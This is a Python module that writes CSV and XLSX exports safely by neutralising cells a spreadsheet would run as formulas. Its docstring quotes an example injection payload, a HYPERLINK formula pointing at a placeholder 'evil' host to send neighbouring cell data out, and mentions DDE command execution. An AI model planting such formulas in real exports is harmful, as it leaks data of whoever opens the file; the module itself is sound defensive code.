"""Safe tabular writers: CSV and XLSX that a spreadsheet opens without running anything.

The threat is formula injection (CSV injection): a quoted testimony or a code name such as
`=HYPERLINK("http://evil/?"&A1, "click")` becomes a live formula when a researcher opens the export, and can
send neighbouring cells (pseudonyms, quotes) to a server or run commands through DDE. Every text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's list) is therefore written with a leading
single quote, so it reads as text; in XLSX the cell is also stored explicitly as a string (`data_type` "s"),
never as a formula. Numbers stay numbers (a negative number is a number, not a formula).

XLSX also cannot hold most control characters (they make the file unreadable): they are replaced by U+FFFD.
A cell holds at most 32 767 characters; longer text is cut and ends with a marker. The workbook is written in
openpyxl's write-only mode, so memory stays flat on large exports. CSV is UTF-8 with a byte-order mark
(Excel reads UTF-8 correctly only with it), every field quoted as needed, CRLF line ends (RFC 4180).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell as XlCell
from openpyxl.styles import Font

Cell = str | int | float | bool | None

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CELL_LIMIT = 32_767
TRUNCATED = " [...cut: cell limit]"
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SHEET_TITLE = re.compile(r"[\[\]:*?/\\]")


@dataclass(frozen=True)
class Sheet:
    """One table: a title (the XLSX sheet name), its column names and its rows."""

    title: str
    columns: Sequence[str]
    rows: Iterable[Sequence[Cell]]


def neutralise(value: str) -> str:
    """The text with a leading single quote when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(DANGEROUS_PREFIXES) else value


def _csv_value(value: Cell) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return neutralise(value)
    return value


def to_csv(rows: Iterable[Sequence[Cell]], columns: Sequence[str]) -> bytes:
    """A CSV file (UTF-8 with BOM, CRLF) with a header row; every text cell neutralised."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise(column) for column in columns])
    width = len(columns)
    for row in rows:
        if len(row) != width:
            raise ValueError(f"a row has {len(row)} cells for {width} columns")
        writer.writerow([_csv_value(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def _xlsx_text(value: str) -> str:
    text = neutralise(_ILLEGAL_XLSX.sub("\ufffd", value))
    if len(text) > XLSX_CELL_LIMIT:
        text = text[: XLSX_CELL_LIMIT - len(TRUNCATED)] + TRUNCATED
    return text


def _sheet_title(title: str, taken: set[str]) -> str:
    base = _SHEET_TITLE.sub("_", title).strip("'")[:31] or "Sheet"
    name, number = base, 1
    while name.lower() in taken:
        number += 1
        name = f"{base[: 31 - len(str(number)) - 1]}_{number}"
    taken.add(name.lower())
    return name


def _cell(worksheet: Any, value: Cell, *, font: Font | None = None) -> XlCell:
    if isinstance(value, str):
        made = WriteOnlyCell(worksheet, value=_xlsx_text(value))
        made.data_type = "s"  # text, whatever it looks like: never a formula
    else:
        made = WriteOnlyCell(worksheet, value=value)
    if font is not None:
        made.font = font
    return made


def to_xlsx(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook, one sheet per table, bold header row; every text cell stored as neutralised text."""
    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    workbook = Workbook(write_only=True)
    taken: set[str] = set()
    bold = Font(bold=True)
    try:
        for sheet in sheets:
            worksheet = workbook.create_sheet(_sheet_title(sheet.title, taken))
            worksheet.append([_cell(worksheet, column, font=bold) for column in sheet.columns])
            width = len(sheet.columns)
            for row in sheet.rows:
                if len(row) != width:
                    raise ValueError(f"a row has {len(row)} cells for {width} columns")
                worksheet.append([_cell(worksheet, value) for value in row])
    except BaseException:
        for written in workbook.worksheets:
            written.close()  # finish the half-written temporary sheet so nothing leaks
        raise
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
